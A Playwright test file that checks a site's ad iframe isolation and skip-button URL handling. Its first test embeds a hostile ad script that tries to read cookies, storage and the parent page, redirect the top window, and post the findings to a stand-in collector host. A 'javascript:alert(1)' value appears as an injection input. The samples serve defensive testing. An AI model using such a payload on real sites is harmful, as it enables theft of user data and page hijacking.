import type { Page } from '@playwright/test'
import { adOn, setAd } from '../support/ad-screen.ts'
import { expect, test } from '../support/fixtures.ts'
import { rateScreen } from '../support/rate-screen.ts'
import type { Site } from '../support/running-site.ts'
import { addPhotos } from '../support/seeded-collection.ts'

const setSkipButton = (site: Site, buttonText: string, buttonUrl: string) =>
  site.saveSetting('skip-button', { buttonText, buttonUrl, isActive: true })

/** Records messages on a channel that reach the page itself, from its next load on. */
const listenTo = async (page: Page, name: string) => {
  await page.addInitScript((channel) => {
    if (self !== top) return
    const heard: unknown[] = []
    new BroadcastChannel(channel).onmessage = ({ data }) => heard.push(data)
    Object.assign(window, { heard })
  }, name)
  return () => page.evaluate((): unknown => Reflect.get(window, 'heard'))
}

test('isolates an ad in its frame', async ({ page, site, problems }) => {
  problems.expect(/./)
  await addPhotos(site, 1)
  const collected = Promise.withResolvers<Record<string, string>>()
  await page.route('https://collector.example/**', async (route) => {
    if (route.request().method() === 'POST') collected.resolve(route.request().postDataJSON())
    await route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: '' })
  })
  await setAd(
    site,
    `<p>Framed</p><script>
      const found = { origin: self.origin }
      const attempt = async (name, act) => {
        try { found[name] = 'reached ' + (await act()) } catch (error) { found[name] = error.name }
      }
      ;(async () => {
        await attempt('storage', () => localStorage.length)
        await attempt('cookie', () => document.cookie)
        await attempt('parent', () => parent.document.title)
        await attempt('top', () => top.localStorage.length)
        await attempt('channel', () => new BroadcastChannel('everybody').postMessage('from the ad'))
        await attempt('api', async () => (await fetch('${site.url}/api/ad-config/zone1')).text())
        await attempt('navigation', () => { top.location.href = 'https://elsewhere.example/' })
        await fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
      })()
    </script>`,
  )
  const heard = await listenTo(page, 'everybody')
  await rateScreen(page).open()
  await adOn(page).scrollIntoViewIfNeeded()
  await expect(adOn(page).locator('iframe').contentFrame().getByText('Framed')).toBeVisible()
  const found = await collected.promise
  expect(found.origin).toBe('null')
  for (const name of ['storage', 'cookie', 'parent', 'top']) expect(found[name], name).toBe('SecurityError')
  expect(found.api).toMatch(/Error$/)
  expect(found.channel).toBe('reached undefined')
  // Messages on a channel arrive in order, so earlier ones have arrived.
  await page.evaluate(() => new BroadcastChannel('everybody').postMessage('from the page'))
  await expect.poll(heard).not.toEqual([])
  expect(await heard()).toEqual(['from the page'])
  await expect(page).toHaveURL('/')
})

test('opens the address of the skip button by click and key, or just skips', async ({ page, site }) => {
  await addPhotos(site, 2)
  await page.route('https://partner.example/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: 'Partner' }),
  )
  await setSkipButton(site, 'More like this', 'https://partner.example/more')
  const rate = rateScreen(page)
  const button = page.getByRole('button', { name: 'More like this' })
  for (const press of [() => button.click(), () => page.keyboard.press('s')]) {
    await rate.open()
    await press()
    await expect(page).toHaveURL('https://partner.example/more')
  }

  await setSkipButton(site, 'Next one', 'javascript:alert(1)')
  await rate.open()
  await page.getByRole('button', { name: 'Next one' }).click()
  await rate.shown(2)
  await expect(page).toHaveURL('/')
})
